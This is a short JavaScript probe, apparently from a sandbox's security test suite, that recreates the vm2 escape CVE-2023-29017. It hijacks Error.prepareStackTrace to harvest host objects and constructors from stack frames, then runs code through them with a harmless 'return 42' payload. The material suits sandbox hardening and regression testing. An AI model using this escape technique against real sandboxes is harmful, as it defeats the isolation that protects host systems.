// From: vm2 CVE-2023-29017: call sites give the receiver and the function of the host's frames.
// Ends: [] or error exception
import { gains } from "../gains.js";

export const attack = () => {
  const found = [];
  Error.prepareStackTrace = (_error, sites) => {
    for (const site of sites) {
      const name = site.getFileName() ?? "";
      if (name.startsWith("aardvark:") || name === "") {
        if (site.getThis()) found.push(() => site.getThis());
        if (site.getFunction()) found.push(() => site.getFunction());
      }
      for (const value of [site.constructor, site.getThis, sites.constructor]) found.push(() => value.constructor("return 42")());
    }
    return sites;
  };
  const thrower = { toString() { throw new Error("x"); } };
  for (const f of [() => atob(thrower), () => new URL(thrower), () => console.count(thrower), () => structuredClone({ get x() { throw new Error(); } })]) {
    try { f(); } catch (error) { void error.stack; }
  }
  void new Error().stack;
  delete Error.prepareStackTrace;
  return gains(found);
};
